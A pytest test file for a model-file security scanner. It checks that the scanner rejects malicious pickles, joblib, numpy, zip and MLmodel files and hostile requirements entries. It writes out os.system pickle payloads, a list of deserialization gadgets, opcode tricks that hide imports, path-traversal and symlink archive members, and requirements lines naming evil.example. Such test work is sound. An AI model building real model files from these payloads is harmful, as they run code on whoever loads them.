"""Hostile files are rejected, however they are dressed. None of them is ever loaded here."""

from __future__ import annotations

import gzip
import io
import pickle
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.validation.conftest import MODELS
from validation.scanning.files import scan_file
from validation.scanning.report import Budget, FileReport

SYSTEM = b"cos\nsystem\n(S'true'\ntR."


def scan(name: str, data: bytes) -> FileReport:
    return scan_file(name, io.BytesIO(data), Budget())


def short(text: str) -> bytes:
    return b"\x8c" + bytes([len(text)]) + text.encode()


def stack_global(module: str, name: str) -> bytes:
    return b"\x80\x04" + short(module) + short(name) + b"\x93"


class Calls:
    """Pickles as a call of a named global."""

    def __init__(self, module: str, name: str) -> None:
        self.place = (module, name)

    def at(self, protocol: int) -> bytes:
        module, name = self.place
        if protocol < 4:
            head = b"" if protocol < 2 else b"\x80" + bytes([protocol])
            return head + f"c{module}\n{name}\n(S'x'\ntR.".encode()
        return b"\x80" + bytes([protocol]) + stack_global(module, name)[2:] + short("x") + b"\x85R."


GADGETS = [
    ("os", "system"),
    ("posix", "system"),
    ("nt", "system"),
    ("subprocess", "Popen"),
    ("builtins", "eval"),
    ("builtins", "exec"),
    ("builtins", "getattr"),
    ("builtins", "__import__"),
    ("builtins", "open"),
    ("__builtin__", "eval"),
    ("__builtin__", "file"),
    ("pip", "main"),
    ("pip._internal.cli.main", "main"),
    ("timeit", "timeit"),
    ("pydoc", "locate"),
    ("pydoc", "pipepager"),
    ("numpy.f2py.crackfortran", "myeval"),
    ("numpy.testing._private.utils", "runstring"),
    ("numpy._core", "_ufunc_reconstruct"),
    ("numpy.core._internal", "recursive"),
    ("operator", "attrgetter"),
    ("operator", "methodcaller"),
    ("functools", "reduce"),
    ("importlib", "import_module"),
    ("runpy", "run_path"),
    ("code", "InteractiveInterpreter"),
    ("torch.serialization", "load"),
    ("pickle", "loads"),
    ("_pickle", "loads"),
    ("joblib", "load"),
    ("cloudpickle.cloudpickle", "_make_function"),
    ("cloudpickle.cloudpickle", "_builtin_type"),
    ("copy_reg", "__newobj__"),
    ("copyreg", "add_extension"),
    ("types", "CodeType"),
    ("types", "FunctionType"),
    ("idlelib.pyshell", "ModifiedInterpreter"),
    ("uuid", "_get_command_stdout"),
    ("imaplib", "IMAP4_stream"),
    ("ctypes", "CDLL"),
    ("webbrowser", "open"),
    ("socket", "create_connection"),
    ("urllib.request", "urlopen"),
    ("sklearn.datasets", "fetch_openml"),
    ("sklearn.datasets._base", "_fetch_remote"),
    ("sklearn.utils._testing", "check_output"),
    ("sklearn.utils.parallel", "Parallel"),
    ("sklearn.ensemble._forest", "Parallel"),
    ("sklearn.tree._export", "StringIO"),
    ("sklearn.cluster._kmeans", "ABCMeta"),
    ("sklearn.ensemble", "os"),
    ("pandas", "read_pickle"),
    ("pandas.io.pickle", "read_pickle"),
    ("collections", "namedtuple"),
    ("scipy", "test"),
    ("joblib.numpy_pickle", "NDArrayWrapper"),
]


@pytest.mark.parametrize("protocol", range(6))
@pytest.mark.parametrize(("module", "name"), GADGETS, ids=lambda part: part)
def test_a_gadget_is_rejected(module: str, name: str, protocol: int) -> None:
    found = scan("model.pkl", Calls(module, name).at(protocol))
    assert found.verdict == "rejected"
    assert f"{module}.{name}" in found.problems[0]


HOSTILE = {
    "import only": b"cos\nsystem\n.",
    "import only, dropped": b"cos\nsystem\n0N.",
    "import only, new": stack_global("os", "system") + b".",
    "dotted name": stack_global("sklearn.ensemble", "_gb.np.os.system") + b".",
    "dotted name of a class": stack_global("pandas.core.frame", "DataFrame.eval") + b".",
    "old instance": b"(S'true'\nios\nsystem\n.",
    "object from the stack": b"(cos\nsystem\nS'true'\no.",
    "nested call": b"\x80\x02cnumpy\ndtype\ncos\nsystem\nU\x04true\x85R\x85R.",
    "extension code": b"\x80\x02\x82\x01.",
    "name from the memo": b"\x80\x04" + short("system") + b"\x94" + short("os") + b"h\x00\x93.",
    "name through dup and pop": b"\x80\x04" + short("os") + short("system") + b"20\x93.",
    "name from a tuple": b"\x80\x04" + short("os") + short("x") + b"\x85\x93.",
    "name computed": b"\x80\x04cbuiltins\nstr\n" + short("os") + b"\x85R" + short("system") + b"\x93.",
    "change of an import": b"\x80\x02csklearn.pipeline\nPipeline\n}U\x07predictK\x01sb.",
    "item of an import": b"\x80\x02csklearn.pipeline\nPipeline\nU\x01aK\x01s.",
    "call of an object": b"\x80\x02csklearn.pipeline\nPipeline\n)\x81)R.",
    "second pickle": pickle.dumps([1]) + SYSTEM,
    "something after the end": pickle.dumps([1]) + b"\x00garbage",
    "persistent id": b"\x80\x02U\x01aQ.",
    "nothing at all": b"",
    "not a pickle": b"hello",
    "only a mark": b"\x80\x04.",
    "memo never written": b"\x80\x04h\x05.",
}


@pytest.mark.parametrize("data", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_pickle_is_rejected(data: bytes) -> None:
    assert scan("model.pkl", data).verdict == "rejected"


RENAMED = ["model.bin", "model", "data.csv", "weights.safetensors", "card.md", "x.npy", "x.json", "MLmodel"]


@pytest.mark.parametrize("name", RENAMED)
@pytest.mark.parametrize("protocol", range(6))
def test_another_name_hides_nothing(name: str, protocol: int) -> None:
    assert scan(name, Calls("os", "system").at(protocol)).verdict == "rejected"


def test_a_pickle_cut_short_is_rejected() -> None:
    data = (MODELS / "boosting.cloudpickle.pkl").read_bytes()
    assert scan("model.pkl", data[:-10]).verdict == "rejected"
    assert scan("renamed", data[: len(data) // 2]).verdict == "rejected"


def zipped(name: str, data: bytes) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr(name, data)
    return packed.getvalue()


@pytest.mark.parametrize("name", ["archive/data.pkl", "a.txt", "deep.zip", "x.npy"])
def test_a_zip_hides_nothing(name: str) -> None:
    data = zipped("inner.pkl", SYSTEM) if name == "deep.zip" else SYSTEM
    assert scan("model.pt", zipped(name, data)).verdict == "rejected"
    assert scan("renamed", zipped(name, data)).verdict == "rejected"


def test_a_damaged_zip_is_rejected() -> None:
    good = zipped("data.txt", b"harmless words" * 9)
    at = good.index(b"harmless")
    assert scan("model.zip", good[:at] + b"HARMLESS" + good[at + 8 :]).verdict == "rejected"
    assert scan("model.zip", good[:-30]).verdict == "rejected"
    assert scan("model.zip", good.replace(b"data.txt", b"data.pkl", 1)).verdict == "rejected"
    assert scan("model.zip", b"PK\x03\x04" + bytes(40)).verdict == "rejected"


@pytest.mark.parametrize("name", ["../x", "a/../../x", "/etc/x", "..\\x", "C:\\x", "c:x"])
def test_a_zip_whose_members_lead_out_is_rejected(name: str) -> None:
    assert scan("model.zip", zipped("a/..b/x.txt", b"x")).verdict != "rejected"
    assert scan("model.zip", zipped(name, b"x")).verdict == "rejected"


def test_a_zip_with_a_link_in_it_is_rejected() -> None:
    link = zipfile.ZipInfo("weights.bin")
    link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr(link, "/etc/passwd")
    assert scan("model.zip", packed.getvalue()).verdict == "rejected"


def test_a_zip_behind_something_is_rejected() -> None:
    assert scan("model.pkl", SYSTEM + zipped("a.txt", b"x")).verdict == "rejected"


def test_a_bomb_is_rejected(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("validation.scanning.report.MAX_UNPACKED", 1_000_000)
    bomb = gzip.compress(bytes(3_000_000))
    assert scan("model.pkl", bomb).verdict == "rejected"


@pytest.mark.parametrize("pack", [gzip.compress, zlib.compress])
def test_compression_hides_nothing(pack: Callable[[bytes], bytes]) -> None:
    assert scan("model.joblib", pack(SYSTEM)).verdict == "rejected"


def test_code_behind_a_joblib_array_is_found() -> None:
    data = (MODELS / "columns.joblib").read_bytes()
    assert scan("m.joblib", data).verdict == "clean"
    assert scan("m.joblib", data[:-1] + SYSTEM).verdict == "rejected"


def test_code_inside_a_joblib_array_is_found() -> None:
    """joblib would skip these bytes as numbers; `pickle.load` would run them."""
    data = (MODELS / "boosting.joblib").read_bytes()
    end = data.index(b"numpy_array_alignment_bytes")
    start = data.index(b"b", data.index(b"ub", end))
    hostile = data[: start + 1] + SYSTEM + data[start + 1 + len(SYSTEM) :]
    assert scan("m.joblib", hostile).verdict == "rejected"


def test_a_wrapper_that_lies_about_its_size_is_rejected() -> None:
    data = (MODELS / "boosting.joblib").read_bytes()
    assert scan("m.joblib", data.replace(b"\x8c\x02f8", b"\x8c\x02O8", 1)).verdict == "rejected"
    assert scan("m.joblib", data.replace(b"\x8c\x02f8", b"\x8c\x02f2", 1)).verdict == "rejected"


def test_objects_in_a_numpy_file_are_looked_at() -> None:
    head = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n"
    data = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head + SYSTEM
    assert scan("x.npy", data).verdict == "rejected"


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("lib.so", b"\x7fELF..."),
        ("renamed", b"\x7fELF..."),
        ("a.dll", b"MZ..."),
        ("run", b"#!/bin/sh\n"),
        ("code/model.py", b"x = 1\n"),
        ("model.h5", b"\x89HDF\r\n\x1a\n"),
        ("model.keras", zipped("config.json", b'{"class_name": "Lambda", "config": {}}')),
        ("saved_model.pb", b"\x08\x01"),
        ("MLmodel", b"flavors: {python_function: {loader_module: os}}"),
        ("MLmodel", b"flavors: {python_function: {loader_module: mlflow.sklearn, code: code}}"),
        ("MLmodel", b"flavors: {sklearn: {pickled_model: ../../other/model.pkl}}"),
        ("MLmodel", b"flavors: !!python/object/apply:os.system ['true']"),
        ("MLmodel", b"just words"),
        ("requirements.txt", b"--index-url http://evil.example\nscikit-learn\n"),
        ("requirements.txt", b"evil @ https://evil.example/x.whl\n"),
        ("requirements.txt", b"git+https://evil.example/x\n"),
        ("conda.yaml", b"dependencies: [python=3.11, {pip: ['-e .']}]"),
        ("conda.yaml", b"channels: ['http://evil.example']"),
        ("model.skops", b"not a zip"),
        ("model.skops", zipped("schema.json", b'{"__class__": "system", "__module__": "os", "__loader__": "FunctionNode"}')),
        ("model.skops", zipped("schema.json", b'{"__class__": "str", "__module__": "builtins", "__loader__": "MethodNode"}')),
        ("m.safetensors", b"\xff" * 20),
        ("x.npy", b"\x93NUMPY\x01\x00\x04\x00oops"),
    ],
)  # fmt: skip
def test_other_hostile_files(name: str, data: bytes) -> None:
    assert scan(name, data).verdict == "rejected"


@given(st.binary(max_size=300), st.sampled_from(["model.pkl", "model.zip", "x.npy", "MLmodel", "m.joblib", "x"]))
def test_no_bytes_break_the_scanner(data: bytes, name: str) -> None:
    assert scan(name, data).verdict in {"clean", "rejected", "not recognised"}


BENIGN = (MODELS / "boosting.joblib").read_bytes()


@settings(max_examples=60)
@given(st.integers(0, len(BENIGN) - 1), st.integers(0, 255))
def test_no_changed_byte_breaks_the_scanner(place: int, value: int) -> None:
    changed = BENIGN[:place] + bytes([value]) + BENIGN[place + 1 :]
    assert scan("m.joblib", changed).verdict in {"clean", "rejected"}
